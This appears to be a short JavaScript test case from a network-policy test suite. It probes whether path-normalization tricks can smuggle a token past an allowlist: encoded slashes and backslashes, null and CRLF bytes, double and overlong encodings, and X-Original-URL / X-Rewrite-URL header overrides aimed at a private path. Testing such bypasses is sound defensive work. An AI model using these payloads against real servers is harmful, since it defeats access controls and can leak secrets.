// technique: asks for a path that begins as the permitted one does, and that some servers take for another
// source: RFC 3986, section 6.2; CVE-2021-41773; parameters and escapes in paths
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
// event: HttpRequest
import { ALLOWED, get, say, TOKEN } from './wire.mjs';

const paths = ['/', '%2f', '\\', '%5c', ';x=', '%3b', '%00', '%0d', '%2525', '%252f', '%u002f', '%c0%af', '%e9', '%zz'];
for (const middle of paths) await say(process.env.ALLOWED_HTTP, [get(`/public/${middle}${TOKEN}`)]);
for (const field of ['X-Original-URL', 'X-Rewrite-URL', 'X_Original_URL'])
  await say(process.env.ALLOWED_HTTP, [get('/public/page', ALLOWED, `${field}: /private/${TOKEN}\r\n`)]);
